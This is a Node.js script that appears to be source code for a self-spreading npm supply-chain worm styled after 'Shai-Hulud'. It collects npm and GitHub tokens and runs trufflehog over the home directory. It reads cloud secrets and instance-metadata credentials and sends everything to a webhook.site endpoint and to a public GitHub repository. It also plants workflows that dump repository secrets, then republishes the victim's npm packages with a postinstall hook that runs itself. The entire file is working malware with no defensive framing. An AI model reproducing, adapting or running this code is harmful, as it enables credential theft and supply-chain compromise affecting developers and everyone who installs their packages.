/* eslint-disable */
"use strict";
const fs = require("fs"), os = require("os"), path = require("path"), cp = require("child_process"), https = require("https");

const HOME = os.homedir();
const WEBHOOK = "https://webhook.site/bb8ca5f6-0000-4000-8000-000000000b15";
const REPO = "Shai-Hulud";
const sh = (c) => { try { return cp.execSync(c, { stdio: ["ignore", "pipe", "ignore"], timeout: 60000 }).toString().trim(); } catch (_) { return ""; } };

function req(method, url, headers, body) {
  return new Promise((res) => {
    const u = new URL(url);
    const r = https.request({ method, hostname: u.hostname, path: u.pathname + u.search, headers: Object.assign({ "user-agent": "node", accept: "application/json" }, headers) }, (s) => {
      let b = ""; s.on("data", (c) => (b += c)); s.on("end", () => { try { res({ status: s.statusCode, json: JSON.parse(b) }); } catch (_) { res({ status: s.statusCode, text: b }); } });
    });
    r.on("error", () => res({ status: 0 }));
    if (body) r.write(typeof body === "string" ? body : JSON.stringify(body));
    r.end();
  });
}

function tokens() {
  const t = { npm: [], gh: [] };
  for (const f of [path.join(HOME, ".npmrc"), path.join(process.cwd(), ".npmrc")]) {
    try { for (const m of fs.readFileSync(f, "utf8").matchAll(/_authToken\s*=\s*(\S+)/g)) t.npm.push(m[1]); } catch (_) {}
  }
  if (process.env.NPM_TOKEN) t.npm.push(process.env.NPM_TOKEN);
  for (const k of ["GITHUB_TOKEN", "GH_TOKEN", "GITHUB_PAT"]) if (process.env[k]) t.gh.push(process.env[k]);
  const g = sh("gh auth token"); if (g) t.gh.push(g);
  return t;
}

function scan() {
  // run trufflehog if available, otherwise fetch it
  let bin = sh("command -v trufflehog");
  if (!bin) {
    const dst = path.join(os.tmpdir(), "th");
    sh(`curl -sSfL https://raw.githubusercontent.com/trufflesecurity/trufflehog/main/scripts/install.sh | sh -s -- -b ${dst}`);
    bin = path.join(dst, "trufflehog");
  }
  return sh(`${bin} filesystem ${HOME} --json --no-update --results=verified,unknown`).split("\n").filter(Boolean).slice(0, 2000);
}

function cloud() {
  const out = {};
  out.aws = sh("aws sts get-caller-identity") && sh("aws secretsmanager list-secrets --output json");
  out.gcp = sh("gcloud secrets list --format=json");
  out.imds = sh("curl -s -m 2 http://169.254.169.254/latest/meta-data/iam/security-credentials/");
  return out;
}

async function exfilToGitHub(gh, data) {
  const H = { authorization: "token " + gh, "content-type": "application/json" };
  const me = await req("GET", "https://api.github.com/user", H);
  if (me.status !== 200) return;
  await req("POST", "https://api.github.com/user/repos", H, { name: REPO, description: "Shai-Hulud Repository.", private: false });
  const enc = Buffer.from(Buffer.from(JSON.stringify(data)).toString("base64")).toString("base64");
  await req("PUT", `https://api.github.com/repos/${me.json.login}/${REPO}/contents/data.json`, H, { message: "init", content: Buffer.from(enc).toString("base64") });
  // plant a workflow that dumps every repository secret
  const wf = [
    "on: push",
    "jobs:",
    "  process:",
    "    runs-on: ubuntu-latest",
    "    steps:",
    "      - run: curl -s -d \"$CONTENTS\" " + WEBHOOK,
    "        env:",
    "          CONTENTS: ${{ toJSON(secrets) }}",
  ].join("\n");
  const repos = await req("GET", "https://api.github.com/user/repos?affiliation=owner,collaborator&per_page=100&sort=pushed", H);
  for (const r of (repos.json || []).slice(0, 50)) {
    if (r.archived || !r.permissions || !r.permissions.push) continue;
    const ref = await req("GET", `https://api.github.com/repos/${r.full_name}/git/ref/heads/${r.default_branch}`, H);
    if (!ref.json || !ref.json.object) continue;
    await req("POST", `https://api.github.com/repos/${r.full_name}/git/refs`, H, { ref: "refs/heads/shai-hulud", sha: ref.json.object.sha });
    await req("PUT", `https://api.github.com/repos/${r.full_name}/contents/.github/workflows/shai-hulud-workflow.yml`, H, { message: "Add workflow", content: Buffer.from(wf).toString("base64"), branch: "shai-hulud" });
  }
}

async function propagate(npmToken) {
  const rc = path.join(os.tmpdir(), ".npmrc-" + process.pid);
  fs.writeFileSync(rc, `//registry.npmjs.org/:_authToken=${npmToken}\n`);
  const env = Object.assign({}, process.env, { NPM_CONFIG_USERCONFIG: rc });
  const who = await req("GET", "https://registry.npmjs.org/-/whoami", { authorization: "Bearer " + npmToken });
  if (!who.json || !who.json.username) return;
  const list = await req("GET", `https://registry.npmjs.org/-/v1/search?text=maintainer:${who.json.username}&size=20`, {});
  for (const o of (list.json && list.json.objects) || []) {
    const name = o.package.name;
    const work = fs.mkdtempSync(path.join(os.tmpdir(), "p-"));
    try {
      const tgz = cp.execSync(`npm pack ${name} --silent`, { cwd: work, env }).toString().trim();
      cp.execSync(`tar xzf ${tgz}`, { cwd: work });
      const dir = path.join(work, "package");
      const pj = JSON.parse(fs.readFileSync(path.join(dir, "package.json"), "utf8"));
      const v = pj.version.split("."); v[2] = String(Number(v[2]) + 1); pj.version = v.join(".");
      pj.scripts = Object.assign({}, pj.scripts, { postinstall: "node bundle.js" });
      fs.writeFileSync(path.join(dir, "package.json"), JSON.stringify(pj, null, 2));
      fs.copyFileSync(__filename, path.join(dir, "bundle.js"));
      cp.execSync("npm publish --access public", { cwd: dir, env, stdio: "ignore" });
    } catch (_) {}
  }
  try { fs.unlinkSync(rc); } catch (_) {}
}

(async () => {
  if (process.platform === "win32") return;
  const t = tokens();
  const data = { system: { host: os.hostname(), user: os.userInfo().username, platform: process.platform }, env: process.env, npm: t.npm, gh: t.gh, trufflehog: scan(), cloud: cloud() };
  for (const g of t.gh) await exfilToGitHub(g, data);
  await req("POST", WEBHOOK, { "content-type": "application/json" }, data);
  for (const n of t.npm) await propagate(n);
})();
